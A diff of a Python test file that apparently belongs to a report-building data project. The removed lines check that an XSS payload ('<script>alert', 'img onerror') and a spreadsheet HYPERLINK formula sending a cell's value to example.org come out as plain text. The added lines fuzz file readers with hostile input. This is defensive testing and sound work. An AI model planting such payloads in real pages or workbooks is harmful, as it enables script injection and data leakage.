@@ -1,118 +1,172 @@
-"""A measure whose words are an attack comes out as words: on the page, in CSV, in the workbook and in the package."""
+"""Input that means no good: whatever it holds, it is one clear error or a sound result, soon and in little memory."""
 
-import csv
-import html
 import json
-import re
-import shutil
-import zipfile
-from html.parser import HTMLParser
+import os
+import subprocess
+import sys
+from collections.abc import Iterator
+from datetime import date
 from pathlib import Path
 
-import frictionless
-import openpyxl
-import polars as pl
+import fuzz
+import hostile
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
-from analysis import datapackage, paths, pictures, report, tables
+from analysis import paths
+from analysis.errors import DocumentFaulty, WorkspaceError
 
-SCRIPT = "<script>alert('施策')</script><img src=x onerror=alert(1)>"
-FORMULA = '=HYPERLINK("https://example.org/?"&A1,"click")'
-BROKEN = r"\ud800"  # half of a surrogate pair, as JSON can hold it
-CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")
-CELLS = {"subhead": f"@{SCRIPT}", "section_title": FORMULA, "ministries": [FORMULA, SCRIPT], "doubts": ["+1", "-1"]}
-MEASURES = tables.read("measures", paths.committed()).filter((pl.col("edition") == 2026) & (pl.col("part") == "body"))
-KEY = MEASURES.sort("first_line")["measure_id"][0]
+SECONDS, BYTES = 60, 2_000_000_000
+FEW = settings(deadline=None, derandomize=True, suppress_health_check=list(HealthCheck), max_examples=25)
 
 
-class Page(HTMLParser):
-    """The elements and attributes of a page, and its text."""
+@pytest.fixture(scope="module", autouse=True)
+def root(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
+    """A workspace for all of them; nothing here publishes anything."""
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("IP_PLAN_ROOT", "")
+        place = tmp_path_factory.mktemp("hostile") / "workspace"
+        fuzz.workspace(place)
+        yield place
+    fuzz.forget()
 
-    def __init__(self, page: str) -> None:
-        super().__init__()
-        self.tags: set[str] = set()
-        self.attributes: set[str] = set()
-        self.text = ""
-        self.feed(page)
 
-    def handle_starttag(self, tag, attrs):
-        self.tags.add(tag)
-        self.attributes |= {name for name, _ in attrs}
+def taken(name: str, content: bytes) -> None:
+    """It raises nothing but one of our own errors, of one line."""
+    said = "an error"
+    try:
+        fuzz.ENTRIES[name](content)
+    except WorkspaceError as error:
+        said = str(error)
+    assert said.strip()
+    assert "\n" not in said
 
-    def handle_data(self, data):
-        self.text += data
+
+CORPUS = sorted(file.relative_to(fuzz.CORPUS).as_posix() for file in fuzz.CORPUS.rglob("*") if file.is_file())
+
+
+@pytest.mark.parametrize("file", CORPUS)
+def test_what_was_found_is_mended(file):
+    taken(file.split("/")[0], (fuzz.CORPUS / file).read_bytes())
+
+
+DOCUMENTS = st.lists(st.integers(0, 255), max_size=120).map(lambda pieces: bytes([0, *pieces]))
+
+
+@pytest.mark.parametrize("layout", list(fuzz.READERS))
+@FEW
+@given(content=DOCUMENTS)
+def test_a_reader_takes_any_document(layout, content):
+    taken(layout, content)
+
+
+@pytest.mark.parametrize("name", ["document", "pdf", "table", "notebook", "parameter"])
+@FEW
+@given(
+    content=st.one_of(st.binary(max_size=200), st.text(max_size=100).map(lambda text: text.encode("utf-8", "replace")))
+)
+def test_an_entry_takes_any_bytes(name, content):
+    taken(name, content)
+
+
+VALUES = st.recursive(
+    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=9), st.dates()),
+    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=5), inner, max_size=3)),
+    max_leaves=5,
+)
+KEPT = {"manifest": paths.manifest()} | {
+    name: fuzz.REPO / f"data/curated/{name}.toml"
+    for name in ("ministries", "topics", "indicators", "continuity", "topic_scale", "agreement")
+}
+
+
+def toml(value: object) -> str:
+    """A value as TOML; None is left to be a word that TOML does not know."""
+    if isinstance(value, dict):
+        return "{" + ", ".join(f"{json.dumps(key)} = {toml(item)}" for key, item in value.items()) + "}"
+    if isinstance(value, list):
+        return "[" + ", ".join(map(toml, value)) + "]"
+    if isinstance(value, date):
+        return value.isoformat()
+    return (
+        json.dumps(value, ensure_ascii=False) if isinstance(value, str | bool) else str(value).replace("None", "none")
+    )
+
+
+@pytest.mark.parametrize("name", KEPT)
+@FEW
+@given(data=st.data())
+def test_what_people_keep_may_hold_any_value(name, data):
+    """One value of the file, of whatever key, is another."""
+    lines = KEPT[name].read_text(encoding="utf-8").split("\n")
+    at = data.draw(st.sampled_from([n for n, line in enumerate(lines) if " = " in line and not line.startswith(" ")]))
+    lines[at] = f"{lines[at].split(' = ')[0]} = {toml(data.draw(VALUES))}"
+    taken(name, "\n".join(lines).encode("utf-8", "replace"))
+
+
+TABLES_KEPT = ("observations", "hand_checks", "renamings", "corrections", "links", "labels")
+CELLS = st.one_of(st.text(max_size=9), st.sampled_from(['"', '""', "\x00", "9" * 5000, "1e999", "nan", "=x", "\ufeff"]))
+
+
+@pytest.mark.parametrize("name", TABLES_KEPT)
+@FEW
+@given(rows=st.lists(st.lists(CELLS, max_size=7), max_size=4))
+def test_what_people_keep_in_tables_may_hold_any_cell(name, rows):
+    head = (fuzz.REPO / f"data/curated/{name}.csv").read_bytes().split(b"\n")[0]
+    taken(name, head + b"\n" + "\n".join(map(",".join, rows)).encode("utf-8", "replace"))
+
+
+# --- whole files through the command line, in bounds --------------------------------------------------------------
+
+
+class Replay:
+    """The command line in a process that has loaded the libraries: see tests/replay.py."""
+
+    def __init__(self, root: Path) -> None:
+        environment = os.environ | {"IP_PLAN_ROOT": str(root), "PYTHONPATH": str(fuzz.REPO)}
+        command = [sys.executable, fuzz.REPO / "tests/replay.py", str(SECONDS), str(BYTES)]
+        self.process = subprocess.Popen(
+            command, env=environment, stdin=subprocess.PIPE, stdout=subprocess.PIPE, encoding="utf-8"
+        )
+
+    def __call__(self, *arguments: str) -> dict:
+        assert self.process.stdin
+        assert self.process.stdout
+        self.process.stdin.write(json.dumps(arguments) + "\n")
+        self.process.stdin.flush()
+        return json.loads(self.process.stdout.readline())
 
 
 @pytest.fixture(scope="module")
-def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """The folder of a report on the committed tables, in which the first measure of 2026 is an attack."""
-    processed, out = tmp_path_factory.mktemp("processed"), tmp_path_factory.mktemp("report")
-    for file in paths.committed().glob("*.jsonl"):
-        if file.stem != "texts":
-            shutil.copy(file, processed)
-    with pytest.MonkeyPatch.context() as patch:
-        patch.setenv("IP_PLAN_PROCESSED", str(processed))
-        patch.setattr(pictures, "draw", lambda specs, folder: dict.fromkeys(specs, "<svg></svg>"))
-        attack(processed)
-        report.build(2026, 2019, "en", out)
-    return out
+def replay(root: Path) -> Iterator[Replay]:
+    made = Replay(root)
+    yield made
+    assert made.process.stdin
+    made.process.stdin.close()
+    made.process.wait(10)
 
 
-def attack(processed: Path) -> None:
-    """Write the words into the tables as bytes, as an altered file would hold them."""
-    file = processed / "measures.jsonl"
-    rows = [json.loads(line) for line in file.read_text(encoding="utf-8").splitlines()]
-    rows = [row | (CELLS if row["measure_id"] == KEY else {}) for row in rows]
-    file.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
-    text = {"measure_id": KEY, "text": FORMULA + SCRIPT + "BROKEN", "repaired": None, "section_title": FORMULA,
-            "subhead": f"@{SCRIPT}", "years": []}  # fmt: skip
-    (processed / "texts.jsonl").write_text(json.dumps(text).replace("BROKEN", BROKEN) + "\n", encoding="utf-8")
+def fault(found: dict) -> str | None:
+    """What is wrong with what became of a file; None where it is one error or was read, in bounds."""
+    if found["seconds"] >= SECONDS or found["bytes"] >= BYTES:
+        return "too much time or memory"
+    if found["code"] == 0:
+        steering = any(sign in found["out"] for sign in "\x1b\x07\u202e")
+        return "what steers a terminal" if steering or " lines, " not in found["out"] else None
+    clear = found["err"].startswith("error: ") and found["err"].count("\n") == 1 and not found["out"]
+    return None if clear and found["code"] == DocumentFaulty.exit_code else found["err"] or f"code {found['code']}"
 
 
-def test_the_page_shows_it_as_words(made):
-    source = (made / "report.html").read_bytes().decode("utf-8")  # strictly: no half of a pair
-    page = Page(source)
-    assert SCRIPT in page.text
-    assert FORMULA in page.text
-    assert {"script", "img", "iframe", "object"} & page.tags == set()
-    assert {name for name in page.attributes if name.startswith("on")} == set()
-    assert html.escape(SCRIPT, quote=False).split("'")[0] in source
-    assert CONTROL.search(source) is None
+@pytest.mark.parametrize("name", [name for name in hostile.FILES if name not in hostile.SLOW])
+def test_a_file_is_one_error_or_is_read(name, root, replay, tmp_path):
+    before = state(root)
+    file = tmp_path / name
+    file.write_bytes(hostile.FILES[name]())
+    found = replay("add", str(file), "--edition", "2031", "--dry-run")
+    assert fault(found) is None
+    assert state(root) == before
 
 
-def test_csv_shows_it_as_words(made):
-    assert (made / "tables/measures.csv").read_bytes().startswith(b"\xef\xbb\xbf")
-    with (made / "tables/measures.csv").open(encoding="utf-8-sig", newline="") as stream:
-        rows = list(csv.DictReader(stream))
-    row = next(row for row in rows if row["measure_id"] == KEY)
-    assert row["text"] == "'" + FORMULA + SCRIPT
-    assert (row["section_title"], row["subhead"]) == ("'" + FORMULA, "'@" + SCRIPT)
-    assert (row["ministries"], row["doubts"]) == (f"'{FORMULA}; {SCRIPT}", "'+1; -1")
-    for file in (made / "tables").glob("*.csv"):
-        content = file.read_bytes().decode("utf-8-sig")
-        assert CONTROL.search(content) is None
-        cells = [cell for row in csv.reader(content.splitlines(keepends=True)) for cell in row]
-        assert [cell for cell in cells if cell[:1] in tuple("=+@＝＋－＠\t\r") or re.match(r"-(?![\d.])", cell)] == []
-
-
-def test_the_workbook_shows_it_as_words(made):
-    book = openpyxl.load_workbook(made / "tables/ip-plan-2026.xlsx")
-    head, *rows = book["measures"].iter_rows()
-    row = {name.value: cell for name, cell in zip(head, next(r for r in rows if r[0].value == KEY), strict=True)}
-    assert row["text"].value == FORMULA + SCRIPT
-    assert row["section_title"].value == FORMULA
-    assert row["ministries"].value == f"{FORMULA}; {SCRIPT}"
-    assert all(row[name].quotePrefix for name in ("text", "section_title", "subhead", "ministries", "doubts"))
-    with zipfile.ZipFile(made / "tables/ip-plan-2026.xlsx") as archive:
-        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
-        assert not any("externalLink" in name or "/_rels/sheet" in name for name in archive.namelist())  # no addresses
-    assert len(sheets) == len(book.sheetnames)
-    assert not any("<f>" in sheet or 't="e"' in sheet for sheet in sheets)  # no formula, no fault
-
-
-def test_the_package_and_parquet_are_whole(made):
-    validated = frictionless.validate(str(made / "tables" / datapackage.FILE))
-    assert validated.valid, validated.flatten(["name", "rowNumber", "fieldName", "note"])[:3]
-    frame = pl.read_parquet(made / "tables/measures.parquet").filter(measure_id=KEY)
-    assert frame["ministries"].to_list() == [CELLS["ministries"]]
-    assert frame["text"][0].startswith(FORMULA + SCRIPT)
+def state(root: Path) -> dict[str, bytes]:
+    return {str(file): file.read_bytes() for file in (root / "data").rglob("*") if file.is_file()}
